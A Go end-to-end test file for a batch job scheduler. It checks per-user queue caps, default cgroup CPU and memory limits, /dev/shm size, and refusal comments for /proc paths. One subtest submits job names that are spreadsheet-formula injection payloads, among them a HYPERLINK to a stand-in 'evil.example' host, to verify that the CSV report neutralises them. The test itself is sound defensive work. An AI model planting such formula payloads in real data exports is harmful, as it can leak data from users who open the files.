//go:build !unit

package e2e

import (
	csvpkg "encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"
)

// limitShares are openShares with a max_queued_jobs_per_user of 2 in
// share b.
const limitShares = `
[[share]]
name = "a"
partition = "gpu"
gpus = 4
strategy = "LEND"
users = ["*"]

[[share]]
name = "b"
partition = "gpu"
gpus = 4
strategy = "LEND_AND_BORROW"
borrow_limit = -1
users = ["*"]
max_queued_jobs_per_user = 2
`

// TestHostileLimits (issue 29, N4 N5 N6 N8) through the real daemons and
// commands: a user's queued jobs are capped with a clear refusal, a job
// that names no CPUs or memory still runs under a CPU quota and a memory
// limit (read in its own cgroup) with a bounded /dev/shm, a job name that
// is a spreadsheet formula reaches the CSV report as text, and a refused
// path's reason is the job's comment.
func TestHostileLimits(t *testing.T) {
	c := newCluster(t, spec{nodes: []string{"n1"}, shares: limitShares})

	t.Run("N4 max_queued_jobs_per_user", func(t *testing.T) {
		a := c.qsub("-q", "b", "-h", "--", "/bin/true")
		b := c.qsub("-q", "b", "-h", "--", "/bin/true")
		for _, args := range [][]string{{"-q", "b", "-h", "--", "/bin/true"}, {"-q", "b", "-h", "-J", "0-3", "--", "/bin/true"}} {
			out, errOut, err := c.runAs(alice, "qsub", args...)
			if err == nil || !strings.Contains(errOut, "max_queued_jobs_per_user of 2") || !strings.Contains(errOut, "2 unfinished jobs in queue b") {
				t.Errorf("alice's third job %v: %v %q %q, want a refusal naming max_queued_jobs_per_user", args, err, out, errOut)
			}
			t.Logf("qsub %v: %s", args, strings.TrimSpace(errOut))
		}
		// The cap is alice's: bob still submits to b, alice to a.
		if out, errOut, err := c.runAs(bob, "qsub", "-q", "b", "-h", "--", "/bin/true"); err != nil {
			t.Errorf("bob's qsub beside alice's full queue: %v %q %q", err, out, errOut)
		} else {
			c.runAs(bob, "qdel", strings.TrimSpace(out))
		}
		held := c.qsub("-q", "a", "-h", "--", "/bin/true")
		// A finished job frees its place.
		if _, errOut, err := c.runAs(alice, "qdel", a, held); err != nil {
			t.Fatalf("qdel: %v %s", err, errOut)
		}
		c.waitState(a, "F", time.Minute)
		c.qdelAfter(t, c.qsub("-q", "b", "-h", "--", "/bin/true"), b)
	})

	t.Run("N5 default CPU and memory limits", func(t *testing.T) {
		// The node has 4 CPUs, 4 GiB and 8 GPUs: a job without GPUs that
		// names nothing gets one CPU and that CPU's memory.
		// cgroup v2 (its own cgroup at /sys/fs/cgroup) or v1 (a directory
		// per controller).
		c.script("limits.sh", `if [ -f /sys/fs/cgroup/cpu.max ]; then
  echo cpu $(cat /sys/fs/cgroup/cpu.max)
  echo mem $(cat /sys/fs/cgroup/memory.max)
else
  echo cpu $(cat /sys/fs/cgroup/cpu/cpu.cfs_quota_us /sys/fs/cgroup/cpu/cpu.cfs_period_us)
  echo mem $(cat /sys/fs/cgroup/memory/memory.limit_in_bytes)
fi
echo shm $(df -k /dev/shm | tail -n 1 | awk '{print $2}')
`)
		id := c.qsub("-q", "a", "-o", "limits.out", "-j", "oe", "limits.sh")
		c.waitState(id, "F", time.Minute)
		got := map[string][]string{}
		for _, l := range strings.Split(strings.TrimSpace(c.readFile("limits.out")), "\n") {
			f := strings.Fields(l)
			if len(f) > 1 {
				got[f[0]] = f[1:]
			}
		}
		cpu := got["cpu"]
		if len(cpu) != 2 || cpu[0] != cpu[1] || cpu[0] == "max" || cpu[0] == "-1" {
			t.Errorf("CPU quota and period %q, want a quota of one CPU (job output %q)", cpu, c.readFile("limits.out"))
		}
		const gib = 1 << 30
		if mem := got["mem"]; len(mem) != 1 || mem[0] != strconv.Itoa(gib) {
			t.Errorf("memory limit %q, want %d (1 GiB: one of the node's 4 CPUs' memory)", mem, gib)
		}
		if shm := got["shm"]; len(shm) != 1 || shm[0] != strconv.Itoa(gib/2/1024) {
			t.Errorf("/dev/shm %q KiB, want %d KiB (half the memory limit)", shm, gib/2/1024)
		}
		if ncpus, mem := c.field(id, "Resource_List.ncpus"), c.field(id, "Resource_List.mem"); ncpus != "1" || mem == "" {
			t.Errorf("qstat -f: Resource_List.ncpus = %q, mem = %q; want what the job got", ncpus, mem)
		}
		t.Logf("CPU quota/period %s, memory limit %s, /dev/shm %s KiB; qstat -f ncpus = %s, mem = %s",
			got["cpu"], got["mem"], got["shm"], c.field(id, "Resource_List.ncpus"), c.field(id, "Resource_List.mem"))
	})

	t.Run("N6 CSV formulas", func(t *testing.T) {
		names := []string{`=HYPERLINK("http:evil.example?leak",1)`, "+1+1", "@SUM(1)", "-2+3"}
		var ids []string
		for _, n := range names {
			ids = append(ids, c.qsub("-q", "a", "-N", n, "-o", "/dev/null", "-e", "/dev/null", "--", "/bin/true"))
		}
		for _, id := range ids {
			c.waitState(id, "F", time.Minute)
		}
		var csv string
		c.eventually(time.Minute, func() (bool, string) {
			out, errOut, err := c.runAs(0, "sharqctl", "report", "jobs", "--format", "csv")
			csv = out
			// The history is written on its own goroutine, in no set order.
			for _, id := range ids {
				if !strings.Contains(out, "\n"+id+",") {
					return false, errOut + out
				}
			}
			return err == nil, errOut + out
		})
		for _, n := range names {
			if !strings.Contains(csv, "'"+n) && !strings.Contains(csv, `"'`+strings.ReplaceAll(n, `"`, `""`)+`"`) {
				t.Errorf("job name %q not neutralised in the CSV:\n%s", n, csv)
			}
		}
		rows, err := csvpkg.NewReader(strings.NewReader(csv)).ReadAll()
		if err != nil {
			t.Fatalf("report jobs --format csv: %v\n%s", err, csv)
		}
		for _, row := range rows {
			for _, f := range row {
				if f != "" && strings.ContainsRune("=+@\t\r", rune(f[0])) {
					t.Errorf("a cell starts with a formula: %q in %q", f, row)
				}
			}
		}
	})

	t.Run("N8 refused path in the comment", func(t *testing.T) {
		for _, tc := range []struct{ name, dir, out, want string }{
			{"work directory on proc", "/proc", c.workdir + "/n8.out", "job work directory refused: /proc as 1000:1000: on proc"},
			{"output file on proc", c.workdir, "/proc/sharq-e2e.out", "cannot create job output file /proc/sharq-e2e.out as 1000:1000"},
		} {
			out, errOut, err := c.runIn(alice, tc.dir, "qsub", "-q", "a", "-o", tc.out, "-e", c.workdir+"/n8.err", "--", "/bin/true")
			if err != nil {
				t.Fatalf("%s: qsub: %v %s", tc.name, err, errOut)
			}
			id := strings.TrimSpace(out)
			c.waitState(id, "F", time.Minute)
			got := c.field(id, "comment")
			if !strings.HasPrefix(got, "StartRefused: ") || !strings.Contains(got, tc.want) {
				t.Errorf("%s: comment = %q, want StartRefused: ...%s", tc.name, got, tc.want)
			}
			t.Logf("%s: comment = %s", tc.name, got)
		}
	})
}

// qdelAfter deletes ids (a test's leftovers) and waits for them to finish.
func (c *cluster) qdelAfter(t *testing.T, ids ...string) {
	t.Helper()
	if _, errOut, err := c.runAs(0, "qdel", ids...); err != nil {
		t.Fatalf("qdel %v: %v %s", ids, err, errOut)
	}
	for _, id := range ids {
		c.waitState(id, "F", time.Minute)
	}
}
